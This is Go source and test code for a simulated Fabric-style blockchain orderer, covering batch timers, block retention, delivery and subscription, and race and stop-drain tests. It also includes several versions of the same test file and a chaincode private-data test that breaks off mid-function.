	s.batchGen++
	if s.batchTimer != nil {
		s.batchTimer.Stop()
		s.batchTimer = nil
	}
}

// timerFlush is the BatchTimeout expiry path: it cuts only if the timer
// that fired is still the armed one. It runs on the timer goroutine and
// never touches the raft cluster; a due compaction is left for the
// ordering goroutine's next round.
func (s *Service) timerFlush(gen uint64) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.stopped || gen != s.batchGen {
		return
	}
	s.disarmBatchTimerLocked()
	if len(s.pending) == 0 {
		return
	}
	s.cutBlockLocked(s.pending)
	s.pending = nil
	s.pendingWaits = nil
}

// cutBlockLocked cuts a block from txs, retains it, and enqueues it onto
// every peer delivery queue. It returns the block's delivery tracker.
// No cloning happens here: the retained block is immutable and peer
// goroutines clone lazily before invoking handlers.
func (s *Service) cutBlockLocked(txs []*ledger.Transaction) *blockDelivery {
	batch := make([]*ledger.Transaction, len(txs))
	copy(batch, txs)
	block := ledger.NewBlock(s.height, s.lastHash, batch)
	s.height++
	s.lastHash = block.Hash()
	s.delivered++
	s.blocks = append(s.blocks, block)
	if s.cfg.RetainBlocks > 0 && len(s.blocks) > s.cfg.RetainBlocks {
		evict := len(s.blocks) - s.cfg.RetainBlocks
		s.blocks = append([]*ledger.Block(nil), s.blocks[evict:]...)
		s.firstBlock += uint64(evict)
		s.metrics.Add(metrics.OrdererBlocksEvicted, uint64(evict))
		// Retention policy: once blocks leave the delivery window the
		// orderer cannot serve that history anyway (Deliver returns
		// ErrCompacted) — the raft entries behind them are dead weight.
		// Schedule a log compaction in step with the eviction; maybeCompact
		// defers it until every registered subscriber has drained past the
		// evicted blocks.
		s.retainCompactDue = true
	}
	s.metrics.Inc(metrics.BlocksOrdered)
	s.metrics.Add(metrics.TxOrdered, uint64(len(batch)))
	if s.cfg.SnapshotInterval > 0 && s.delivered%s.cfg.SnapshotInterval == 0 {
		s.compactDue = true
	}
	bd := &blockDelivery{}
	bd.wg.Add(len(s.queues))
	for _, q := range s.queues {
		q.enqueue(block, bd)
	}
	return bd
}

// Subscribe atomically returns clones of every retained block and
// registers the handler for all future blocks, so a late-joining peer
// misses nothing between catch-up and live delivery. With RetainBlocks
// set, blocks evicted from the window are absent from the backlog.
// Closing the returned Subscription deregisters the handler.
func (s *Service) Subscribe(h BlockHandler) ([]*ledger.Block, *Subscription) {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make([]*ledger.Block, 0, len(s.blocks))
	for _, b := range s.blocks {
		out = append(out, b.Clone())
	}
	return out, s.registerLocked(h)
}

// SubscribeFrom is Subscribe with an explicit start block: the backlog
// holds clones of retained blocks from number `from` on, and the handler
// is registered for all future blocks in the same critical section.
// When `from` predates the retention window the subscriber cannot be
// served contiguously — SubscribeFrom registers nothing and returns
// ErrCompacted, the signal to bootstrap from a snapshot instead. A
// `from` at (or beyond) the tip is not an error: the backlog is empty
// and the subscription is live.
func (s *Service) SubscribeFrom(from uint64, h BlockHandler) ([]*ledger.Block, *Subscription, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if from < s.firstBlock {
		return nil, nil, fmt.Errorf("%w: block %d predates retained window [%d,%d)", ErrCompacted, from, s.firstBlock, s.height)
	}
	var out []*ledger.Block
	if from < s.height {
		out = make([]*ledger.Block, 0, s.height-from)
		for _, b := range s.blocks[from-s.firstBlock:] {
			out = append(out, b.Clone())
		}
	}
	return out, s.registerLocked(h), nil
}

// Deliver returns clones of retained blocks from number `from` on —
// Fabric's deliver service, used by late-joining peers to catch up. A
// `from` at or beyond the chain tip returns (nil, nil). With
// RetainBlocks set, a `from` that has been evicted from the retention
// window returns ErrCompacted: that history must come from a peer
// snapshot or block store instead.
func (s *Service) Deliver(from uint64) ([]*ledger.Block, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if from < s.firstBlock {
		return nil, fmt.Errorf("%w: block %d predates retained window [%d,%d)", ErrCompacted, from, s.firstBlock, s.height)
	}
	if from >= s.height {
		return nil, nil
	}
	out := make([]*ledger.Block, 0, s.height-from)
	for _, b := range s.blocks[from-s.firstBlock:] {
		out = append(out, b.Clone())
	}
	return out, nil
}

// FirstBlock returns the lowest block number still retained for
// Deliver/Subscribe catch-up (0 unless RetainBlocks evicted history).
func (s *Service) FirstBlock() uint64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.firstBlock
}

// Metrics returns a snapshot of the ordering service's counters.
func (s *Service) Metrics() map[string]uint64 { return s.metrics.Snapshot() }

// Timings returns a snapshot of the ordering service's latency
// histograms (consensus rounds and queue wait).
func (s *Service) Timings() map[string]metrics.HistogramSnapshot {
	return s.timings.Snapshot()
}

// CrashLeader crashes the current raft leader, for failure-injection
// tests; returns the crashed node ID or "".
func (s *Service) CrashLeader() raft.NodeID {
	s.clusterMu.Lock()
	defer s.clusterMu.Unlock()
	leader, err := s.cluster.ElectLeader(s.cfg.MaxTicks)
	if err != nil {
		return ""
	}
	id := leader.ID()
	s.cluster.Crash(id)
	return id
}

// RestartNode brings a crashed orderer back.
func (s *Service) RestartNode(id raft.NodeID) {
	s.clusterMu.Lock()
	defer s.clusterMu.Unlock()
	s.cluster.Restart(id)
}
