package orderer

import (
	"fmt"
	"sync"
	"testing"

	"repro/internal/ledger"
)

// BenchmarkOrdererSubmit measures the synchronous submit path end to
// end: enqueue, one-transaction consensus round, block cut, delivery to
// a single registered peer.
func BenchmarkOrdererSubmit(b *testing.B) {
	svc := New(Config{OrdererCount: 3, BatchSize: 1, Seed: 21})
	svc.RegisterDelivery(func(*ledger.Block) {})
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := svc.Submit(tx(fmt.Sprintf("b%d", i))); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	svc.Stop()
}

// BenchmarkOrdererPipelined measures throughput as concurrent
// submitters grow: outstanding submissions coalesce into one raft round
// each, so 16 submitters should order far more than 16x slower than one.
func BenchmarkOrdererPipelined(b *testing.B) {
	for _, submitters := range []int{1, 4, 16} {
		b.Run(fmt.Sprintf("submitters=%d", submitters), func(b *testing.B) {
			svc := New(Config{OrdererCount: 3, BatchSize: 10, Seed: 23})
			svc.RegisterDelivery(func(*ledger.Block) {})
			b.ResetTimer()
			var wg sync.WaitGroup
			for s := 0; s < submitters; s++ {
				wg.Add(1)
				go func(s int) {
					defer wg.Done()
					for i := s; i < b.N; i += submitters {
						if err := svc.Submit(tx(fmt.Sprintf("p%d-%d", s, i))); err != nil {
							b.Error(err)
							return
						}
					}
				}(s)
			}
			wg.Wait()
			b.StopTimer()
			svc.Stop()
		})
	}
}
