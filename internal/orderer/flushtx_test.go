package orderer

import (
	"fmt"
	"testing"
	"time"

	"repro/internal/ledger"
	"repro/internal/metrics"
)

func flushTestTx(id string) *ledger.Transaction {
	return &ledger.Transaction{
		TxID:            id,
		ChannelID:       "testchan",
		Proposal:        &ledger.Proposal{TxID: id, Chaincode: "cc", Function: "set"},
		ResponsePayload: []byte(`{"tx_id":"` + id + `"}`),
	}
}

func TestInPending(t *testing.T) {
	svc := New(Config{OrdererCount: 3, BatchSize: 100, Seed: 11})
	svc.RegisterDelivery(func(*ledger.Block) {})
	defer svc.Stop()

	if svc.InPending("tx-0") {
		t.Fatal("InPending true before any submission")
	}
	if err := svc.Submit(flushTestTx("tx-0")); err != nil {
		t.Fatal(err)
	}
	// BatchSize 100: the tx is ordered but sits in the partial batch.
	if !svc.InPending("tx-0") {
		t.Fatal("InPending false for a tx in the partial batch")
	}
	svc.Flush()
	if svc.InPending("tx-0") {
		t.Fatal("InPending true after the batch was cut")
	}
}

// TestFlushTxCutsPendingBatch: a conditional flush for a pending tx cuts
// the whole partial batch — every pending transaction lands in one
// block, preserving batching for concurrent waiters.
func TestFlushTxCutsPendingBatch(t *testing.T) {
	blocks := make(chan *ledger.Block, 4)
	svc := New(Config{OrdererCount: 3, BatchSize: 100, Seed: 12})
	svc.RegisterDelivery(func(b *ledger.Block) { blocks <- b })
	defer svc.Stop()

	for i := 0; i < 3; i++ {
		if err := svc.Submit(flushTestTx(fmt.Sprintf("tx-%d", i))); err != nil {
			t.Fatal(err)
		}
	}
	svc.FlushTx("tx-1")
	select {
	case b := <-blocks:
		if len(b.Transactions) != 3 {
			t.Fatalf("flushed block carries %d txs, want all 3 pending", len(b.Transactions))
		}
	case <-time.After(5 * time.Second):
		t.Fatal("no block cut after FlushTx of a pending tx")
	}
}

// TestFlushTxElidedWhenNotPending: a conditional flush for a tx that
// already left the pending batch is dropped — no extra block is cut and
// the elision counter moves.
func TestFlushTxElidedWhenNotPending(t *testing.T) {
	blocks := make(chan *ledger.Block, 4)
	svc := New(Config{OrdererCount: 3, BatchSize: 1, Seed: 13})
	svc.RegisterDelivery(func(b *ledger.Block) { blocks <- b })
	defer svc.Stop()

	if err := svc.Submit(flushTestTx("tx-0")); err != nil {
		t.Fatal(err)
	}
	<-blocks // BatchSize 1: the tx was cut immediately

	svc.FlushTx("tx-0") // stale: the tx is already in a block
	deadline := time.After(5 * time.Second)
	for svc.Metrics()[metrics.OrdererFlushesElided] == 0 {
		select {
		case <-deadline:
			t.Fatal("orderer_flushes_elided never incremented")
		case <-time.After(time.Millisecond):
		}
	}
	select {
	case b := <-blocks:
		t.Fatalf("elided flush still cut block %d", b.Header.Number)
	default:
	}
	if got := svc.Metrics()[metrics.OrdererFlushesElided]; got != 1 {
		t.Fatalf("orderer_flushes_elided = %d, want 1", got)
	}
}

// TestFlushTxAfterStop is a no-op, like Flush after Stop.
func TestFlushTxAfterStop(t *testing.T) {
	svc := New(Config{OrdererCount: 3, BatchSize: 10, Seed: 14})
	svc.RegisterDelivery(func(*ledger.Block) {})
	svc.Stop()
	svc.FlushTx("tx-0") // must not panic or deadlock
}
