package orderer

import (
	"fmt"
	"sync"
	"testing"
	"time"

	"repro/internal/ledger"
)

// TestConcurrentSubmitAndSubscribe exercises the backlog-then-register
// atomicity of Subscribe under -race: subscribers that register while
// writers are cutting blocks must observe every block exactly once, in
// order, with no gap between the returned backlog and the live handler.
// TestStaleBatchTimerDoesNotCut reproduces the stale-callback bug: a
// batch timer fires but loses the mutex race against an explicit cut;
// when the callback finally runs, a fresh partial batch is pending. The
// stale generation must make the callback a no-op instead of cutting the
// new batch prematurely.
func TestStaleBatchTimerDoesNotCut(t *testing.T) {
	svc := New(Config{OrdererCount: 1, BatchSize: 10, BatchTimeout: time.Hour, Seed: 3})

	// First partial batch arms the timer; remember its generation — this
	// plays the role of the fired-but-blocked callback.
	if err := svc.Submit(tx("a")); err != nil {
		t.Fatal(err)
	}
	svc.mu.Lock()
	staleGen := svc.batchGen
	armed := svc.batchTimer != nil
	svc.mu.Unlock()
	if !armed {
		t.Fatal("timer not armed after first pending tx")
	}

	// An explicit flush cuts the batch and disarms the timer.
	svc.Flush()
	if svc.Height() != 1 {
		t.Fatalf("height = %d after flush, want 1", svc.Height())
	}

	// A fresh partial batch arrives, then the stale callback wins the
	// mutex: it must not cut.
	if err := svc.Submit(tx("b")); err != nil {
		t.Fatal(err)
	}
	svc.timerFlush(staleGen)
	if svc.Height() != 1 {
		t.Fatalf("stale timer callback cut a block: height = %d", svc.Height())
	}

	// The currently armed generation still cuts.
	svc.mu.Lock()
	liveGen := svc.batchGen
	svc.mu.Unlock()
	svc.timerFlush(liveGen)
	if svc.Height() != 2 {
		t.Fatalf("live timer did not cut: height = %d", svc.Height())
	}
}

// TestBatchTimerStopDrains hammers Submit/Flush with a very short
// BatchTimeout under -race, then verifies Stop leaves no pending timer
// callback behind: a transaction submitted after Stop must never be cut
// by a leaked Flush.
func TestBatchTimerStopDrains(t *testing.T) {
	svc := New(Config{OrdererCount: 1, BatchSize: 100, BatchTimeout: 200 * time.Microsecond, Seed: 5})

	const writers = 4
	const perWriter = 10
	var wg sync.WaitGroup
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWriter; i++ {
				if err := svc.Submit(tx(fmt.Sprintf("s%d-%d", w, i))); err != nil {
					t.Errorf("submit: %v", err)
					return
				}
				if i%3 == 0 {
					svc.Flush()
				}
			}
		}(w)
	}
	wg.Wait()
	svc.Flush()

	// Every submitted transaction is in exactly one block.
	var total int
	for _, b := range svc.Deliver(0) {
		total += len(b.Transactions)
	}
	if total != writers*perWriter {
		t.Fatalf("ordered %d transactions, want %d", total, writers*perWriter)
	}

	svc.Stop()
	if err := svc.Submit(tx("after-stop")); err != nil {
		t.Fatal(err)
	}
	height := svc.Height()
	time.Sleep(5 * time.Millisecond) // ample room for a leaked timer to fire
	if got := svc.Height(); got != height {
		t.Fatalf("a timer fired after Stop: height %d -> %d", height, got)
	}
}

func TestConcurrentSubmitAndSubscribe(t *testing.T) {
	svc := New(Config{OrdererCount: 1, BatchSize: 1, Seed: 7})

	const writers = 4
	const perWriter = 8
	const subscribers = 6

	type stream struct {
		mu   sync.Mutex
		nums []uint64
	}
	streams := make([]*stream, subscribers)

	var wg sync.WaitGroup
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWriter; i++ {
				if err := svc.Submit(tx(fmt.Sprintf("w%d-%d", w, i))); err != nil {
					t.Errorf("submit: %v", err)
					return
				}
			}
		}(w)
	}
	for s := 0; s < subscribers; s++ {
		wg.Add(1)
		go func(s int) {
			defer wg.Done()
			st := &stream{}
			streams[s] = st
			backlog := svc.Subscribe(func(b *ledger.Block) {
				st.mu.Lock()
				defer st.mu.Unlock()
				st.nums = append(st.nums, b.Header.Number)
			})
			st.mu.Lock()
			defer st.mu.Unlock()
			pre := make([]uint64, 0, len(backlog))
			for _, b := range backlog {
				pre = append(pre, b.Header.Number)
			}
			st.nums = append(pre, st.nums...)
		}(s)
	}
	wg.Wait()

	want := uint64(writers * perWriter)
	if svc.Height() != want {
		t.Fatalf("height = %d, want %d", svc.Height(), want)
	}
	for s, st := range streams {
		if uint64(len(st.nums)) != want {
			t.Fatalf("subscriber %d saw %d blocks, want %d", s, len(st.nums), want)
		}
		for i, n := range st.nums {
			if n != uint64(i) {
				t.Fatalf("subscriber %d: position %d holds block %d", s, i, n)
			}
		}
	}
}
