package orderer

import (
	"errors"
	"fmt"
	"sync"
	"testing"
	"time"

	"repro/internal/ledger"
)

// TestConcurrentSubmitAndSubscribe exercises the backlog-then-register
// atomicity of Subscribe under -race: subscribers that register while
// writers are cutting blocks must observe every block exactly once, in
// order, with no gap between the returned backlog and the live handler.
// TestStaleBatchTimerDoesNotCut reproduces the stale-callback bug: a
// batch timer fires but loses the mutex race against an explicit cut;
// when the callback finally runs, a fresh partial batch is pending. The
// stale generation must make the callback a no-op instead of cutting the
// new batch prematurely.
func TestStaleBatchTimerDoesNotCut(t *testing.T) {
	svc := New(Config{OrdererCount: 1, BatchSize: 10, BatchTimeout: time.Hour, Seed: 3})

	// First partial batch arms the timer; remember its generation — this
	// plays the role of the fired-but-blocked callback.
	if err := svc.Submit(tx("a")); err != nil {
		t.Fatal(err)
	}
	svc.mu.Lock()
	staleGen := svc.batchGen
	armed := svc.batchTimer != nil
	svc.mu.Unlock()
	if !armed {
		t.Fatal("timer not armed after first pending tx")
	}

	// An explicit flush cuts the batch and disarms the timer.
	svc.Flush()
	if svc.Height() != 1 {
		t.Fatalf("height = %d after flush, want 1", svc.Height())
	}

	// A fresh partial batch arrives, then the stale callback wins the
	// mutex: it must not cut.
	if err := svc.Submit(tx("b")); err != nil {
		t.Fatal(err)
	}
	svc.timerFlush(staleGen)
	if svc.Height() != 1 {
		t.Fatalf("stale timer callback cut a block: height = %d", svc.Height())
	}

	// The currently armed generation still cuts.
	svc.mu.Lock()
	liveGen := svc.batchGen
	svc.mu.Unlock()
	svc.timerFlush(liveGen)
	if svc.Height() != 2 {
		t.Fatalf("live timer did not cut: height = %d", svc.Height())
	}
}

// TestBatchTimerStopDrains hammers Submit/Flush with a very short
// BatchTimeout under -race, then verifies Stop's drain: every accepted
// transaction ends up in exactly one block (the final partial batch is
// flushed), post-Stop submissions are refused with ErrStopped, and no
// leaked timer callback cuts a block afterwards.
func TestBatchTimerStopDrains(t *testing.T) {
	svc := New(Config{OrdererCount: 1, BatchSize: 100, BatchTimeout: 200 * time.Microsecond, Seed: 5})

	const writers = 4
	const perWriter = 10
	var wg sync.WaitGroup
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWriter; i++ {
				if err := svc.Submit(tx(fmt.Sprintf("s%d-%d", w, i))); err != nil {
					t.Errorf("submit: %v", err)
					return
				}
				if i%3 == 0 {
					svc.Flush()
				}
			}
		}(w)
	}
	wg.Wait()
	svc.Stop() // drains the queue and flushes any final partial batch

	// Every submitted transaction is in exactly one block.
	seen := make(map[string]int)
	var total int
	for _, b := range mustDeliver(t, svc, 0) {
		total += len(b.Transactions)
		for _, tr := range b.Transactions {
			seen[tr.TxID]++
		}
	}
	if total != writers*perWriter {
		t.Fatalf("ordered %d transactions, want %d", total, writers*perWriter)
	}
	for id, n := range seen {
		if n != 1 {
			t.Fatalf("tx %s ordered %d times", id, n)
		}
	}

	if err := svc.Submit(tx("after-stop")); !errors.Is(err, ErrStopped) {
		t.Fatalf("submit after Stop: err = %v, want ErrStopped", err)
	}
	height := svc.Height()
	time.Sleep(5 * time.Millisecond) // ample room for a leaked timer to fire
	if got := svc.Height(); got != height {
		t.Fatalf("a timer fired after Stop: height %d -> %d", height, got)
	}
}

// TestConcurrentSubmitWithTimeoutArmed races many synchronous submitters
// against the BatchTimeout cut path under -race: whichever of the timer
// or the size trigger cuts each block, no transaction may be lost or
// duplicated once the dust settles.
func TestConcurrentSubmitWithTimeoutArmed(t *testing.T) {
	svc := New(Config{OrdererCount: 3, BatchSize: 5, BatchTimeout: 300 * time.Microsecond, Seed: 11})

	const writers = 8
	const perWriter = 12
	var wg sync.WaitGroup
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWriter; i++ {
				if err := svc.Submit(tx(fmt.Sprintf("c%d-%d", w, i))); err != nil {
					t.Errorf("submit: %v", err)
					return
				}
			}
		}(w)
	}
	wg.Wait()
	svc.Stop()

	seen := make(map[string]bool)
	for _, b := range mustDeliver(t, svc, 0) {
		for _, tr := range b.Transactions {
			if seen[tr.TxID] {
				t.Fatalf("tx %s appears in two blocks", tr.TxID)
			}
			seen[tr.TxID] = true
		}
	}
	if len(seen) != writers*perWriter {
		t.Fatalf("ordered %d distinct transactions, want %d", len(seen), writers*perWriter)
	}
}

// TestStopRacesInflightSubmits stops the service while submitters are
// mid-flight: each Submit must either succeed — and then its transaction
// appears in exactly one delivered block — or fail with ErrStopped and
// never be ordered.
func TestStopRacesInflightSubmits(t *testing.T) {
	svc := New(Config{OrdererCount: 1, BatchSize: 3, Seed: 13})

	const writers = 6
	const perWriter = 20
	var mu sync.Mutex
	accepted := make(map[string]bool)
	var wg sync.WaitGroup
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWriter; i++ {
				id := fmt.Sprintf("r%d-%d", w, i)
				err := svc.Submit(tx(id))
				switch {
				case err == nil:
					mu.Lock()
					accepted[id] = true
					mu.Unlock()
				case errors.Is(err, ErrStopped):
					return
				default:
					t.Errorf("submit %s: %v", id, err)
					return
				}
			}
		}(w)
	}
	go svc.Stop()
	wg.Wait()
	svc.Stop() // idempotent; ensures the drain finished before we inspect

	ordered := make(map[string]int)
	for _, b := range mustDeliver(t, svc, 0) {
		for _, tr := range b.Transactions {
			ordered[tr.TxID]++
		}
	}
	for id := range accepted {
		if ordered[id] != 1 {
			t.Fatalf("accepted tx %s ordered %d times", id, ordered[id])
		}
	}
	for id, n := range ordered {
		if n != 1 {
			t.Fatalf("tx %s ordered %d times", id, n)
		}
	}
}

// TestSlowPeerDoesNotStallFastPeer is the backpressure contract: with
// per-peer delivery queues, a peer whose handler blocks on block 0 must
// not delay a fast peer's receipt of later blocks, and once unblocked it
// still receives every block in order.
func TestSlowPeerDoesNotStallFastPeer(t *testing.T) {
	const blocks = 6
	svc := New(Config{OrdererCount: 1, BatchSize: 1, Seed: 17, DeliveryQueueBound: blocks + 1})

	gate := make(chan struct{}) // closed to release the slow peer
	var slowMu sync.Mutex
	var slowSeen []uint64
	svc.RegisterDelivery(func(b *ledger.Block) {
		<-gate
		slowMu.Lock()
		slowSeen = append(slowSeen, b.Header.Number)
		slowMu.Unlock()
	})

	fastDone := make(chan struct{})
	var fastMu sync.Mutex
	var fastSeen []uint64
	svc.RegisterDelivery(func(b *ledger.Block) {
		fastMu.Lock()
		fastSeen = append(fastSeen, b.Header.Number)
		if len(fastSeen) == blocks {
			close(fastDone)
		}
		fastMu.Unlock()
	})

	// Async submits: a synchronous Submit would wait for the gated slow
	// peer. The fast peer must see all blocks while the slow one is stuck.
	for i := 0; i < blocks; i++ {
		w := svc.SubmitAsync(tx(fmt.Sprintf("bp%d", i)))
		<-w.Done()
		if err := w.Err(); err != nil {
			t.Fatal(err)
		}
	}
	select {
	case <-fastDone:
	case <-time.After(5 * time.Second):
		t.Fatal("fast peer stalled behind the slow peer")
	}
	slowMu.Lock()
	stuck := len(slowSeen)
	slowMu.Unlock()
	if stuck != 0 {
		t.Fatalf("slow peer processed %d blocks while gated", stuck)
	}

	close(gate)
	svc.Stop() // joins the delivery goroutines: backlogs fully drained

	fastMu.Lock()
	defer fastMu.Unlock()
	slowMu.Lock()
	defer slowMu.Unlock()
	for _, seen := range [][]uint64{fastSeen, slowSeen} {
		if len(seen) != blocks {
			t.Fatalf("peer saw %d blocks, want %d", len(seen), blocks)
		}
		for i, n := range seen {
			if n != uint64(i) {
				t.Fatalf("peer saw block %d at position %d", n, i)
			}
		}
	}
}

func TestConcurrentSubmitAndSubscribe(t *testing.T) {
	svc := New(Config{OrdererCount: 1, BatchSize: 1, Seed: 7})

	const writers = 4
	const perWriter = 8
	const subscribers = 6

	type stream struct {
		mu   sync.Mutex
		nums []uint64
	}
	streams := make([]*stream, subscribers)

	var wg sync.WaitGroup
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWriter; i++ {
				if err := svc.Submit(tx(fmt.Sprintf("w%d-%d", w, i))); err != nil {
					t.Errorf("submit: %v", err)
					return
				}
			}
		}(w)
	}
	for s := 0; s < subscribers; s++ {
		wg.Add(1)
		go func(s int) {
			defer wg.Done()
			st := &stream{}
			streams[s] = st
			backlog, _ := svc.Subscribe(func(b *ledger.Block) {
				st.mu.Lock()
				defer st.mu.Unlock()
				st.nums = append(st.nums, b.Header.Number)
			})
			st.mu.Lock()
			defer st.mu.Unlock()
			pre := make([]uint64, 0, len(backlog))
			for _, b := range backlog {
				pre = append(pre, b.Header.Number)
			}
			st.nums = append(pre, st.nums...)
		}(s)
	}
	wg.Wait()

	want := uint64(writers * perWriter)
	if svc.Height() != want {
		t.Fatalf("height = %d, want %d", svc.Height(), want)
	}
	for s, st := range streams {
		if uint64(len(st.nums)) != want {
			t.Fatalf("subscriber %d saw %d blocks, want %d", s, len(st.nums), want)
		}
		for i, n := range st.nums {
			if n != uint64(i) {
				t.Fatalf("subscriber %d: position %d holds block %d", s, i, n)
			}
		}
	}
}

// mustDeliver unwraps Deliver for tests that read the full retained
// chain (unbounded retention: never compacted).
func mustDeliver(t *testing.T, svc *Service, from uint64) []*ledger.Block {
	t.Helper()
	blocks, err := svc.Deliver(from)
	if err != nil {
		t.Fatalf("Deliver(%d): %v", from, err)
	}
	return blocks
}
