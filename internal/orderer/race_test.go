package orderer

import (
	"fmt"
	"sync"
	"testing"

	"repro/internal/ledger"
)

// TestConcurrentSubmitAndSubscribe exercises the backlog-then-register
// atomicity of Subscribe under -race: subscribers that register while
// writers are cutting blocks must observe every block exactly once, in
// order, with no gap between the returned backlog and the live handler.
func TestConcurrentSubmitAndSubscribe(t *testing.T) {
	svc := New(Config{OrdererCount: 1, BatchSize: 1, Seed: 7})

	const writers = 4
	const perWriter = 8
	const subscribers = 6

	type stream struct {
		mu   sync.Mutex
		nums []uint64
	}
	streams := make([]*stream, subscribers)

	var wg sync.WaitGroup
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWriter; i++ {
				if err := svc.Submit(tx(fmt.Sprintf("w%d-%d", w, i))); err != nil {
					t.Errorf("submit: %v", err)
					return
				}
			}
		}(w)
	}
	for s := 0; s < subscribers; s++ {
		wg.Add(1)
		go func(s int) {
			defer wg.Done()
			st := &stream{}
			streams[s] = st
			backlog := svc.Subscribe(func(b *ledger.Block) {
				st.mu.Lock()
				defer st.mu.Unlock()
				st.nums = append(st.nums, b.Header.Number)
			})
			st.mu.Lock()
			defer st.mu.Unlock()
			pre := make([]uint64, 0, len(backlog))
			for _, b := range backlog {
				pre = append(pre, b.Header.Number)
			}
			st.nums = append(pre, st.nums...)
		}(s)
	}
	wg.Wait()

	want := uint64(writers * perWriter)
	if svc.Height() != want {
		t.Fatalf("height = %d, want %d", svc.Height(), want)
	}
	for s, st := range streams {
		if uint64(len(st.nums)) != want {
			t.Fatalf("subscriber %d saw %d blocks, want %d", s, len(st.nums), want)
		}
		for i, n := range st.nums {
			if n != uint64(i) {
				t.Fatalf("subscriber %d: position %d holds block %d", s, i, n)
			}
		}
	}
}
