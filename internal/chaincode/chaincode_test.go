package chaincode

import (
	"errors"
	"testing"

	"repro/internal/identity"
	"repro/internal/ledger"
	"repro/internal/pvtdata"
	"repro/internal/rwset"
	"repro/internal/statedb"
)

func testDef(memberOnlyRead bool) *Definition {
	return &Definition{
		Name:    "cc",
		Version: "1.0",
		Collections: []pvtdata.CollectionConfig{{
			Name:           "pdc1",
			MemberPolicy:   "OR(org1.member, org2.member)",
			MaxPeerCount:   3,
			MemberOnlyRead: memberOnlyRead,
		}},
	}
}

type stubEnv struct {
	db      *statedb.DB
	pvt     *pvtdata.Store
	builder *rwset.Builder
	stub    Stub
}

func newStubEnv(peerOrg, clientOrg string, memberOnlyRead bool) *stubEnv {
	db := statedb.New()
	pvt := pvtdata.NewStore(db)
	builder := rwset.NewBuilder()
	prop := &ledger.Proposal{
		TxID:      "tx1",
		Chaincode: "cc",
		Function:  "f",
		Args:      []string{"a", "b"},
		Transient: map[string][]byte{"secret": []byte("s3cr3t")},
	}
	creator := &identity.Certificate{Subject: "client0." + clientOrg, Org: clientOrg, Role: identity.RoleClient}
	stub := NewSimStub(prop, creator, peerOrg, testDef(memberOnlyRead), db, pvt, builder)
	return &stubEnv{db: db, pvt: pvt, builder: builder, stub: stub}
}

func TestStubBasics(t *testing.T) {
	e := newStubEnv("org1", "org1", false)
	if e.stub.TxID() != "tx1" || e.stub.Function() != "f" || e.stub.PeerOrg() != "org1" {
		t.Fatal("stub identity fields wrong")
	}
	if len(e.stub.Args()) != 2 {
		t.Fatal("args wrong")
	}
	if string(e.stub.Transient("secret")) != "s3cr3t" {
		t.Fatal("transient wrong")
	}
	if e.stub.Transient("missing") != nil {
		t.Fatal("phantom transient")
	}
	if e.stub.Creator().Org != "org1" {
		t.Fatal("creator wrong")
	}
}

func TestPublicStateOps(t *testing.T) {
	e := newStubEnv("org1", "org1", false)
	e.db.Put("cc", "k", []byte("v")) // committed state at version 1

	value, err := e.stub.GetState("k")
	if err != nil || string(value) != "v" {
		t.Fatalf("GetState = %q, %v", value, err)
	}
	if err := e.stub.PutState("k2", []byte("w")); err != nil {
		t.Fatal(err)
	}
	if err := e.stub.DelState("k"); err != nil {
		t.Fatal(err)
	}
	set, pvt := e.builder.Build("tx1")
	if pvt != nil {
		t.Fatal("public ops produced private set")
	}
	ns := set.NsRWSets[0]
	if len(ns.Reads) != 1 || ns.Reads[0].Version != 1 {
		t.Fatalf("reads = %+v", ns.Reads)
	}
	if len(ns.Writes) != 2 {
		t.Fatalf("writes = %+v", ns.Writes)
	}
	// Simulation must not touch committed state.
	if _, _, ok := e.db.Get("cc", "k2"); ok {
		t.Fatal("simulation wrote through to state")
	}
}

func TestMemberReadsPrivate(t *testing.T) {
	e := newStubEnv("org1", "org1", false)
	ver := e.pvt.ApplyHashedWrite("cc", "pdc1", []byte("kh"), []byte("vh"))
	_ = ver
	e.pvt.ApplyPrivateWrite("cc", "pdc1", "k", []byte("secret"), 1)

	value, err := e.stub.GetPrivateData("pdc1", "k")
	if err != nil || string(value) != "secret" {
		t.Fatalf("GetPrivateData = %q, %v", value, err)
	}
	set, _ := e.builder.Build("tx1")
	if len(set.CollSets) != 1 || set.CollSets[0].HashedReads[0].Version != 1 {
		t.Fatalf("hashed read set = %+v", set.CollSets)
	}
}

// TestNonMemberReadErrors reproduces Use Case 1: a PDC non-member peer
// errors on private reads but succeeds on GetPrivateDataHash and private
// writes.
func TestNonMemberReadErrors(t *testing.T) {
	e := newStubEnv("org3", "org1", false)
	_, err := e.stub.GetPrivateData("pdc1", "k")
	if !errors.Is(err, ErrPrivateDataUnavailable) {
		t.Fatalf("err = %v, want ErrPrivateDataUnavailable", err)
	}

	// GetPrivateDataHash works and records the same versioned read a
	// member would produce.
	keyDigest := pvtdata.HashedKey("k")
	_ = keyDigest
	e.db.Put(pvtdata.HashedNamespace("cc", "pdc1"), pvtdata.HashedKey("k"), []byte("vh")) // version 1
	digest, err := e.stub.GetPrivateDataHash("pdc1", "k")
	if err != nil || string(digest) != "vh" {
		t.Fatalf("GetPrivateDataHash = %q, %v", digest, err)
	}
	set, _ := e.builder.Build("tx1")
	if set.CollSets[0].HashedReads[0].Version != 1 {
		t.Fatalf("forged read version = %d, want 1", set.CollSets[0].HashedReads[0].Version)
	}

	// Writes succeed for non-members (empty read set).
	if err := e.stub.PutPrivateData("pdc1", "k2", []byte("v")); err != nil {
